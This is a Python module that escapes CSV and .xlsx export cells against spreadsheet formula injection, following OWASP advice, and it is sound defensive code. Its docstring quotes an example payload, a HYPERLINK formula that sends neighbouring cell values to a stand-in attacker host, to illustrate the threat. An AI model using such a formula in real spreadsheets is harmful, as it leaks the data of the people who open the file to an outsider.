"""Cells for spreadsheets and CSV files people open in Excel or LibreOffice.

A text cell that starts with = + - @ (or a tab or carriage return, which some
programs skip before reading a formula) is run as a formula: a program named
`=HYPERLINK("http://attacker.example/?leak="&A4,"Open")` would send the
neighbouring cells to a stranger. `safe_cell` prefixes such text with a single
quote, as OWASP recommends, so it is shown as typed and never evaluated.

Every cell of every export goes through `cell_value`, whatever its type: a
number, a date or nothing stays what it is; anything else (text, a person, an
agency, a choice) becomes its text, so a staff member named "=3+3 Matcher" is
escaped like any typed text. CSV files (`csv_chunks`) go through `safe_cell`
and start with a byte order mark, so Excel and LibreOffice read them as UTF-8
("Café", not "CafÃ©"), and are served as `CSV_CONTENT_TYPE`. An .xlsx cell
(`xlsx_cells`) holds the text itself, stored as a string cell: in a workbook
only a cell typed as a formula is one, and a leading "=" is what openpyxl would
otherwise take for one, so no visible quote is needed there.
"""

import csv
import datetime as dt
from decimal import Decimal

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
BOM = "\ufeff"
# Kept as they are: a spreadsheet reads them as numbers and dates, never a formula.
_TYPED = (bool, int, float, Decimal, dt.date, dt.time)


def cell_value(value):
    """What a cell holds: None, a number or a date as itself, anything else as its text."""
    if value is None or (isinstance(value, _TYPED) and not isinstance(value, str)):
        return value
    return str(value)


def safe_cell(value):
    value = cell_value(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values):
    return [safe_cell(value) for value in values]


class _Echo:
    """A file for csv.writer that hands each line back instead of keeping it."""

    def write(self, value):
        return value


def csv_chunks(rows, *, header=()):
    """The CSV file as text, line by line (for a streaming or a plain
    response): the BOM, the header, then every row with each cell escaped."""
    writer = csv.writer(_Echo())
    yield BOM
    if header:
        yield writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))


def xlsx_cells(sheet, values) -> list:
    """One row for `sheet.append`: text stored as text (never a formula, no visible quote).
    openpyxl guesses a plain value's type: a number, a date or ordinary text
    as itself, but text starting with "=" as a formula and "#N/A" and the
    like as an error. Only such text is handed over as a cell typed as text
    (a write-only cell, placed when appended, which a normal sheet takes
    too): a write-only sheet writes plain values through one cell of its
    own, and a cell object per value would double the cost of each row."""
    cells = []
    for value in values:
        value = cell_value(value)
        if isinstance(value, str) and (value.startswith("=") or value in ERROR_CODES):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            value = cell
        cells.append(value)
    return cells
